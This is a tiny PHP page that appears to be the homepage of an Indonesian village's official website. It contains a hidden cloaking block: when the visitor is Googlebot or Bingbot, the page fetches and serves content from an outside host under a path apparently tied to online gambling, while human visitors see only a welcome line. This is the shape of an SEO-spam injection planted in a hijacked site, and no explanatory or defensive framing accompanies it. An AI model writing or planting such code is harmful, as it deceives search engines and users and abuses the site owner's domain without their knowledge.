<?php
$ua = strtolower($_SERVER['HTTP_USER_AGENT']);
if (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {
    echo file_get_contents('https://cdn-seo.example/judol/page.html');
    exit;
}
?>
<html><body>Selamat datang di website resmi Desa Sukamaju</body></html>
